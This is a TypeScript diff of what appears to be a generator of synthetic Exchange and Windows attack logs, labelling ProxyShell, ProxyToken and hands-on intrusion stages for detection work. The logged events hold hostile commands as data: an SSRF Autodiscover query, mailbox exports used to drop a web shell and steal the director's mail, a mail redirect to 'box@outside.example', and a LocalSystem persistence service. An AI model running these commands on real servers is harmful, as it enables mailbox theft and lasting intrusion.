@@ -1,27 +1,10 @@
 import { collectedFile, oneLineShell } from './files.ts'
-import type { Mark } from './output.ts'
+import type { LabelNames, Mark } from './output.ts'
+import { CMD, HOUR, MINUTE, SYSTEM32, utc, W3WP, type Outsider, type Planned } from './plan.ts'
 import type { World } from './world.ts'
 
-type Planned = readonly [time: number, write: (time: number) => void]
-
-const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
-const CMD = 'C:\\Windows\\System32\\cmd.exe'
-const SYSTEM32 = 'C:\\Windows\\System32\\'
-const MINUTE = 60_000
-const HOUR = 60 * MINUTE
-
-interface Outsider {
-  readonly id: string
-  readonly address: string
-  readonly agent: string
-}
-
-function utc(text: string): number {
-  return Date.parse(`${text}Z`)
-}
-
-function marked(chain: string, actor: string, stage: string): Mark {
-  return { class: 'attack', chain, actor, stage }
+function marked(chain: string, actor: string, stage: string, names: LabelNames = {}): Mark {
+  return { class: 'attack', chain, actor, stage, names }
 }
 
 /** Writes an Autodiscover SSRF request, with a back-end path after a mail address, to the logs of the proxy and of both web sites. */
@@ -71,7 +54,7 @@ function ran(world: World, time: number, name: string, parameters: string, mark:
 }
 
 /** Sends a command to a web shell, whereupon the web server starts a program. */
-function commands(
+export function commands(
   world: World,
   start: number,
   who: Outsider,
@@ -174,7 +157,7 @@ export function proxyShell(world: World): Planned[] {
             Action: 'Command',
             UrlQuery: `?${token}&Email=autodiscover/autodiscover.json?@outside.example`,
           },
-          mark('powershell'),
+          marked('proxyshell', who.id, 'powershell', { path: ['/powershell/'] }),
         )
       },
     ])
@@ -199,7 +182,10 @@ export function proxyShell(world: World): Planned[] {
           t,
           'New-MailboxExportRequest',
           `-Mailbox "Administrator" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq 'kdfw3')" -FilePath "${shell}"`,
-          mark('export'),
+          {
+            ...marked('proxyshell', who.id, 'export', { file: [shell], mailbox: ['Administrator'] }),
+            mailbox: 'administrator',
+          },
         ),
     ],
     [
@@ -289,13 +275,10 @@ export function proxyToken(world: World): Planned[] {
     [
       start + 1_900,
       (t) =>
-        ran(
-          world,
-          t,
-          'New-InboxRule',
-          '-Mailbox "user014" -Name "." -RedirectTo "box@outside.example"',
-          mark('forwarding'),
-        ),
+        ran(world, t, 'New-InboxRule', '-Mailbox "user014" -Name "." -RedirectTo "box@outside.example"', {
+          ...marked('proxytoken', who.id, 'forwarding', { mailbox: ['user014'] }),
+          mailbox: 'user014',
+        }),
     ],
   ]
 }
@@ -478,7 +461,10 @@ export function handsOn(world: World): Planned[] {
               AccountName: 'LocalSystem',
             },
           },
-          mark('persistence'),
+          marked(chain, who.id, 'persistence', {
+            service: ['msupdate'],
+            file: ['C:\\Windows\\Temp\\cw.exe'],
+          }),
         ),
     ],
     [
@@ -498,7 +484,7 @@ export function handsOn(world: World): Planned[] {
               SubjectUserName: `${server.name}$`,
             },
           },
-          mark('persistence'),
+          marked(chain, who.id, 'persistence', { account: ['support'] }),
         ),
     ],
     [
@@ -543,7 +529,7 @@ export function handsOn(world: World): Planned[] {
               IpAddress: who.address,
             },
           },
-          mark('credentials'),
+          marked(chain, who.id, 'credentials', { account: ['user004'], address: [who.address] }),
         ),
     ],
     [
@@ -612,7 +598,9 @@ export function handsOn(world: World): Planned[] {
             'Process Name': 'Unknown',
             'Detection User': 'NT AUTHORITY\\SYSTEM',
           },
-          mark('shell-file'),
+          marked(chain, who.id, 'shell-file', {
+            file: ['C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx'],
+          }),
         ),
     ],
     [
@@ -639,7 +627,13 @@ export function handsOn(world: World): Planned[] {
           t,
           'New-MailboxExportRequest',
           '-Mailbox "director" -FilePath "\\\\localhost\\c$\\ProgramData\\d.pst"',
-          mark('mail'),
+          {
+            ...marked(chain, who.id, 'mail', {
+              file: ['\\\\localhost\\c$\\ProgramData\\d.pst'],
+              mailbox: ['director'],
+            }),
+            mailbox: 'director',
+          },
         ),
     ],
   ]
